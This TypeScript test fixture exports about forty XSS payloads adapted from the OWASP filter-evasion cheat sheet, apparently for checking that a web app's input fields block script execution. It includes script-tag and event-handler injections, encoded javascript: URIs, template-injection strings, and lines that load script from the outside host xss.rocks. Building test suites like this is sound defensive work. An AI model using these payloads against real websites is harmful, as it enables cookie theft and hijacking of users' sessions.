/**
 * Payloads after the OWASP XSS filter-evasion cheat sheet, adapted so that any
 * that executes either opens a dialog or touches the page's canary. None
 * contains a control character (token and session names refuse them) and none
 * starts or ends with a space (names are trimmed).
 */
const CANARY = "window.__canary='pwned'";

export const XSS_PAYLOADS: readonly string[] = [
  `<script>${CANARY};alert('XSS')</script>`,
  `"><script>${CANARY}</script>`,
  `'><script>alert(1)</script>`,
  '<img src=x onerror=alert(1)>',
  `<img src=x onerror="${CANARY}">`,
  `<IMG SRC="javascript:alert('XSS');">`,
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  `\\";alert('XSS');//`,
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=${CANARY}>`,
  '<svg><script>alert(1)</script></svg>',
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `</textarea><script>${CANARY}</script>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-literal payload, on purpose
  '${alert(1)}',
  `\`\${${CANARY}}\``,
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '<a href="javascript:alert(1)">click me</a>',
  'javascript:alert(1)',
  `<details open ontoggle=${CANARY}>`,
  "{{constructor.constructor('alert(1)')()}}",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  "' onfocus='alert(1)' autofocus='",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '-->"><!--<img src=x onerror=alert(1)>',
];
